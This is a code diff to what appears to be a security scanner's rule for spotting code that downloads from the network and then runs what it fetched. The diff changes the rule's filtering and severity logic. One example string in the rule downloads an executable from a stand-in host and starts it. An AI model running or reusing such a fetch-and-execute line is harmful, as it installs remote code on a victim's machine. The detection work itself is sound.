@@ -1,7 +1,7 @@
 import { isModelService } from './collecting-places.js';
 import { WHEN, isPure, isUnasked, without, type Combination } from './combination.js';
 import type { Severity } from '../model/finding.js';
-import { FILE_TOOLS, commandTraits, isHostile, type CommandTrait } from './commands.js';
+import { commandTraits, isHostile, movesFiles, type CommandTrait } from './commands.js';
 import type { Sighting } from './machine-parts.js';
 
 /** At least part of the command or path is literal. */
@@ -84,10 +84,12 @@ export const CODE_COMBINATIONS: readonly Combination[] = [
       example: 'urlretrieve("https://evil.invalid/a.exe", path); os.startfile(path)',
       technique: 'T1105',
     },
-    judge: ({ behaviour, labels, reach, host, text, hashes }) => {
+    judge: ({ behaviour, labels, reach, host, text, hashes, isChecked }) => {
       if ((behaviour !== 'starts-process' && behaviour !== 'loads-native') || !labels.has('network'))
         return undefined;
-      if (FILE_TOOLS.test(text ?? '')) return undefined;
+      if (movesFiles(text ?? '')) return undefined;
+      // A build that fetches the source of a library and checks that it is the one it knows.
+      if (reach === 'install' && isChecked === true) return 'HIGH';
       if (isUnasked(reach)) return 'CRITICAL';
       if (isModelService(host)) return undefined;
       const isFixed = host !== undefined && isPure(labels) && hashes !== true;
